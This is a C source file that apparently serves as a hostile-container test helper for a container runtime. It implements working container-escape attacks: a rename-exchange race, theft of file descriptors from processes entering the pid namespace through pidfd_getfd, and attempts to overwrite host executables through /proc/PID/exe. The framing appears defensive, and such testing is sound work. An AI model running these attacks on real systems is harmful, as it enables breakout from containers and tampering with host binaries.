/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a hostile container or a hostile neighbour does:
 *
 *     attack swap A B         exchanges two names for ever, at full speed
 *     attack steal SECONDS    takes every descriptor it can out of every process that
 *                             appears in its pid namespace; prints what is no file of its
 * own attack overwrite SECONDS  holds on to the executable of every process that appears
 *                             and tries to write to it when it is no longer busy
 *
 * Linked statically, so that it runs in any root file system.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

static void swap(const char *a, const char *b)
{
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Host directories show as "(unreachable)/…"; the caller's terminal is of another devpts. */
static void judge(int pid, int number, int fd)
{
	char path[64], link[4096];
	struct stat st;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, link, sizeof(link) - 1);
	if (n < 0 || fstat(fd, &st) < 0)
		return;
	link[n] = '\0';
	if ((S_ISDIR(st.st_mode) || S_ISREG(st.st_mode)) &&
	    strncmp(link, "(unreachable)", 13) == 0)
		printf("stole %d from %d: %s\n", number, pid, link);
	if (isatty(fd))
		printf("stole a terminal, %d from %d: %s\n", number, pid, link);
	fflush(stdout);
}

static void steal_from(int pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	for (int number = 0; pidfd >= 0 && number < 40; number++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);

		if (fd >= 0) {
			judge(pid, number, fd);
			close(fd);
		}
	}
	if (pidfd >= 0)
		close(pidfd);
}

static void try_write(int fd)
{
	char path[64];
	int w;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	w = open(path, O_WRONLY);
	if (w < 0)
		return;
	if (write(w, "owned", 5) == 5)
		printf("wrote\n");
	fflush(stdout);
	close(w);
}

#define HELD 4096

static void overwrite(double until)
{
	static int held[HELD];
	int count = 0, last = 1;

	while (now() < until) {
		for (int pid = last; pid < last + 64; pid++) {
			char path[64];
			int fd;

			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			fd = pid == getpid() ? -1 : open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (count < HELD)
				held[count++] = fd;
			else
				close(fd);
		}
		for (int i = count > 32 ? count - 32 : 0; i < count; i++)
			try_write(held[i]);
		last = last > 400 ? 1 : last + 32;
	}
	for (int i = 0; i < count; i++)
		try_write(held[i]);
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "swap") == 0) {
		swap(argv[2], argv[3]);
	} else if (argc == 3 && strcmp(argv[1], "steal") == 0) {
		double until = now() + atof(argv[2]);

		while (now() < until)
			for (int pid = 2; pid < 400; pid++)
				if (pid != getpid())
					steal_from(pid);
	} else if (argc == 3 && strcmp(argv[1], "overwrite") == 0) {
		overwrite(now() + atof(argv[2]));
	} else {
		return 2;
	}
	return 0;
}
